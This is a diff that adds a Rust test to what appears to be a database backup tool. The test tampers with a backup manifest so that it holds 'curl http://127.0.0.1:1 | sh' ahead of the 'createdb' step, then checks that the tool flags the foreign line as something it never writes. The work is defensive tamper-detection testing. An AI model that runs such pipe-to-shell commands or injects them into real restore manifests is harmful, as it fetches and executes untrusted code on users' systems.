@@ -142,3 +142,20 @@ async fn a_dump_that_was_taken_elsewhere_is_read_back_where_its_programs_are() {
     assert_eq!(backup["outcome"], "taken", "{backup:#}");
     assert_eq!(place.run("verify").code, Some(0));
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_line_that_somebody_put_into_a_manifest_is_said_to_be_strange() {
+    let place = Place::new().await;
+    let backup = place.back_up("");
+    let point = backup["manifest"]["point"].as_str().unwrap();
+    let doubt = "This version does not write such a line";
+    let shown = place.run(&format!("points {point}"));
+    assert!(shown.code == Some(0) && shown.out.contains("pg_restore") && !shown.out.contains(doubt), "{shown:?}");
+    let is_manifest = |path: &std::path::PathBuf| path.extension().is_some_and(|it| it == "json");
+    let manifest = place.files("local").into_iter().find(is_manifest).unwrap();
+    let text = std::fs::read_to_string(&manifest).unwrap();
+    std::fs::write(&manifest, text.replace("createdb", "curl http://127.0.0.1:1 | sh; createdb")).unwrap();
+    let shown = place.run(&format!("points {point}"));
+    let before = |words: &str| shown.out.find(words).unwrap_or_else(|| panic!("no {words:?}: {shown:?}"));
+    assert!(before(doubt) < before("curl http") && shown.out.matches(doubt).count() == 1, "{shown:?}");
+}
